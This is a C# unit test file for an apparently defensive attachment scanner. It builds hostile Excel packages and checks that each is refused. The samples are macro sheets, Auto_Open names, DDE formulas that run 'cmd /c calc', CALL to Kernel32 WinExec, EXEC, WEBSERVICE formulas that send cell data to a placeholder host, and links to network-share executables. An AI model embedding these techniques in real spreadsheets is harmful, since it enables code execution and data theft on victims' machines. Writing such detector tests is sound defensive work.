using StudyCampaigns.Attachments;
using static StudyCampaigns.Tests.Attachments.OfficePackage;

namespace StudyCampaigns.Tests.Attachments;

/// <summary>Excel files that open something else or run something: each is refused for what is in it.</summary>
public sealed class HostileExcelTests
{
    private const string Book = "xl/workbook.xml";
    private const string Sheet = "xl/worksheets/sheet1.xml";
    private const string Links = "xl/externalLinks/externalLink1.xml";

    private static readonly Dictionary<string, (OfficePackage File, Refusal Reason)> Cases = new()
    {
        // Macros of Excel 4, which are sheets.
        ["macro sheet"] = (Excel().Part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>")
            .Relate(Book, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"), AttachmentRefusals.MacroSheet),
        ["macro sheet by type only"] = (Excel().Part("xl/a.xml", "application/vnd.ms-excel.intlmacrosheet+xml", "<a/>"), AttachmentRefusals.MacroSheet),
        ["macro sheet by relationship only"] = (Excel().Part("xl/a.xml", null, "<a/>").Relate(Book, "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet", "a.xml"), AttachmentRefusals.MacroSheet),
        ["macro sheet by its root"] = (Excel().Part("xl/worksheets/sheet2.xml", ExcelType + "worksheet+xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>"), AttachmentRefusals.MacroSheet),
        ["dialog sheet"] = (Excel().Part("xl/dialogsheets/sheet1.xml", ExcelType + "dialogsheet+xml", "<dialogsheet/>"), AttachmentRefusals.MacroSheet),
        ["name that runs at opening"] = (Excel(book: "<definedNames><definedName name=\"_xlnm.Auto_Open\">Bảng!$A$1</definedName></definedNames>"), AttachmentRefusals.MacroSheet),
        ["name that runs at opening, in other letters"] = (Excel(book: "<definedNames><definedName name=\"AUTO_OPEN_la\" hidden=\"1\">Bảng!$A$1</definedName></definedNames>"), AttachmentRefusals.MacroSheet),
        ["name of a macro"] = (Excel(book: "<definedNames><definedName name=\"a\" xlm=\"1\" function=\"1\">Bảng!$A$1</definedName></definedNames>"), AttachmentRefusals.MacroSheet),
        ["macros by type"] = (Excel().Part("xl/vba.bin", "application/vnd.ms-office.vbaProject", [1, 2, 3]), AttachmentRefusals.Macros),
        ["macro type with an entity"] = (new OfficePackage().Part(Book, "application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml", ExcelXml("workbook", "")).Relate("", Office + "officeDocument", Book), AttachmentRefusals.Macros),

        // Other files and programs.
        ["DDE link"] = (Excel(book: "<externalReferences><externalReference r:id=\"rId2\"/></externalReferences>")
            .Part(Links, ExcelType + "externalLink+xml", ExcelXml("externalLink", "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink>"))
            .Relate(Book, Office + "externalLink", "externalLinks/externalLink1.xml"), AttachmentRefusals.WorkbookLinks),
        ["DDE link in another part"] = (Excel(behind: "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>"), AttachmentRefusals.WorkbookLinks),
        ["link to a workbook"] = (Excel().Part(Links, ExcelType + "externalLink+xml", ExcelXml("externalLink", "<externalBook r:id=\"rId1\"/>"))
            .RelateOutside(Links, "externalLinkPath", "file:///\\\\may-la\\a.xlsx"), AttachmentRefusals.WorkbookLinks),
        ["link to an object"] = (Excel().Part(Links, ExcelType + "externalLink+xml", ExcelXml("externalLink", "<oleLink r:id=\"rId1\" progId=\"Package\"/>")), AttachmentRefusals.WorkbookLinks),
        ["connection"] = (Excel().Part("xl/connections.xml", ExcelType + "connections+xml", ExcelXml("connections", "<connection id=\"1\" name=\"a\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"http://vi-du.vn\"/></connection>"))
            .Relate(Book, Office + "connections", "connections.xml"), AttachmentRefusals.Connections),
        ["connection by its root"] = (Excel().Part("xl/a.xml", null, ExcelXml("connections", "<connection id=\"1\"/>")), AttachmentRefusals.Connections),
        ["query of Power Query"] = (Excel().Part("customXml/item1.xml", "application/xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">UEs=</DataMashup>"), AttachmentRefusals.Connections),
        ["model of Power Pivot"] = (Excel().Part("xl/model/item.data", "application/vnd.openxmlformats-officedocument.model+data", [1, 2, 3]), AttachmentRefusals.Connections),
        ["data of a server"] = (Excel().Part("xl/volatileDependencies.xml", ExcelType + "volatileDependencies+xml", ExcelXml("volTypes", "")), AttachmentRefusals.Formula("RTD")),
        ["pivot table of another file"] = (Excel().RelateOutside("xl/pivotCache/pivotCacheDefinition1.xml", "externalLinkPath", "http://vi-du.vn/a.xlsx"), AttachmentRefusals.WorkbookLinks),
        ["picture on a share"] = (Excel().RelateOutside("xl/drawings/drawing1.xml", "image", "file://may-la/a.png"), AttachmentRefusals.OutsidePart),
        ["picture of a note by address"] = (Excel().Part("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing",
            "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:shape><v:fill src=\"http://vi-du.vn/a.png\"/><br></v:shape></xml>"), AttachmentRefusals.OutsidePart),
        ["link to a share"] = (Excel(behind: "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/></hyperlinks>").RelateOutside(Sheet, "hyperlink", "file:///\\\\may-la\\a.exe"), AttachmentRefusals.OutsideLink("file:///\\\\may-la\\a.exe")),
        ["object inside"] = (Excel(behind: "<oleObjects><oleObject progId=\"Package\" shapeId=\"1\"/></oleObjects>"), AttachmentRefusals.Nested),
        ["control"] = (Excel().Part("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<a/>").Relate(Sheet, Office + "control", "../activeX/activeX1.xml"), AttachmentRefusals.Controls),

        // Formulas.
        ["DDE formula"] = (Excel("<c r=\"B1\"><f>cmd|'/c calc'!A0</f><v>0</v></c>"), AttachmentRefusals.Formula("DDE")),
        ["DDE formula with an entity"] = (Excel("<c r=\"B1\"><f>cmd&#124;'/c calc'!A0</f></c>"), AttachmentRefusals.Formula("DDE")),
        ["DDE formula behind a string"] = (Excel("<c r=\"B1\"><f>\"|\"&amp;MSEXCEL|'\\..\\cmd.exe'!''</f></c>"), AttachmentRefusals.Formula("DDE")),
        ["DDE function"] = (Excel("<c r=\"B1\"><f>DDE (\"soffice\";\"a\";\"b\")</f></c>"), AttachmentRefusals.Formula("DDE")),
        ["WEBSERVICE"] = (Excel("<c r=\"B1\"><f>1+_xlfn.WEBSERVICE(\"http://vi-du.vn/?\"&amp;A1)</f></c>"), AttachmentRefusals.Formula("WEBSERVICE")),
        ["RTD"] = (Excel("<c r=\"B1\"><f>rtd(\"a\",,\"b\")</f></c>"), AttachmentRefusals.Formula("RTD")),
        ["picture of the web"] = (Excel("<c r=\"B1\"><f>_xlfn.IMAGE(\"http://vi-du.vn/a.png\")</f></c>"), AttachmentRefusals.Formula("IMAGE")),
        ["CALL in a name"] = (Excel(book: "<definedNames><definedName name=\"a\">CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames>"), AttachmentRefusals.Formula("CALL")),
        ["EXEC in a name"] = (Excel(book: "<definedNames><definedName name=\"a\">EXEC(\"calc\")</definedName></definedNames>"), AttachmentRefusals.Formula("EXEC")),
        ["formula of a format"] = (Excel(behind: "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>"), AttachmentRefusals.Formula("DDE")),
        ["formula of a list"] = (Excel(behind: "<dataValidations><dataValidation><formula1>WEBSERVICE(\"http://a\")</formula1></dataValidation></dataValidations>"), AttachmentRefusals.Formula("WEBSERVICE")),
        ["sheet on a share"] = (Excel("<c r=\"B1\"><f>'\\\\may-la\\thu-muc\\[a.xlsx]Bảng'!A1</f></c>"), AttachmentRefusals.WorkbookLinks),
        ["link of a formula to a share"] = (Excel("<c r=\"B1\"><f>HYPERLINK(\"\\\\may-la\\a.exe\",\"Xem\")</f></c>"), AttachmentRefusals.OutsideLink("\\\\may-la\\a.exe")),

        // Not the file that it seems.
        ["main part outside xl/"] = (new OfficePackage().Part("la/b.xml", ExcelType + "sheet.main+xml", ExcelXml("workbook", "<ddeLink/>")).Relate("", Office + "officeDocument", "la/b.xml"), AttachmentRefusals.WorkbookLinks),
        ["Word file with a workbook of no relationship"] = (Word().Part(Book, ExcelType + "sheet.main+xml", ExcelXml("workbook", "")), AttachmentRefusals.NotWhatItSays(".xlsx", "tệp Office loại khác")),
        ["no main part"] = (new OfficePackage().Part(Book, ExcelType + "sheet.main+xml", ExcelXml("workbook", "")), AttachmentRefusals.NotWhatItSays(".xlsx", "tệp Office loại khác")),
        ["template"] = (new OfficePackage().Part(Book, ExcelType + "template.main+xml", ExcelXml("workbook", "")).Relate("", Office + "officeDocument", Book), AttachmentRefusals.NotWhatItSays(".xlsx", "tệp Office loại khác")),
    };

    public static TheoryData<string> Names => [.. Cases.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Check_HostileExcelFile_IsRefusedForWhatIsInIt(string name)
    {
        var (file, reason) = Cases[name];

        var result = await SampleCheck.CheckAsync("a.xlsx", file.ToBytes());

        Assert.Equal(reason, result.Refusal);
    }

    /// <summary>The file in which each case begins is taken: it is refused for nothing else.</summary>
    [Fact]
    public async Task Check_TheSamePackageWithoutHarm_IsTaken() => Assert.Null((await SampleCheck.CheckAsync("a.xlsx", Excel().ToBytes())).Refusal);
}
